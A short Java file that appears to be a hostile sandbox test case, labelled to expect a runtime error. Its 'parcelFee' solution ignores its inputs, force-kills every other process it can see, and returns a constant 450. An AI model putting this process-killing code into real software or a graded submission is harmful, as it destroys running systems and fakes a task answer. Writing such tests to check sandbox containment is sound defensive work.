// expect: failed runtime_error
// attack: kills every process that it can see
import java.util.*;

class Solution {
    public long parcelFee(List<Integer> sides, long grams) {
        ProcessHandle.allProcesses().filter(p -> p.pid() != ProcessHandle.current().pid()).forEach(ProcessHandle::destroyForcibly);
        return 450;
    }
}
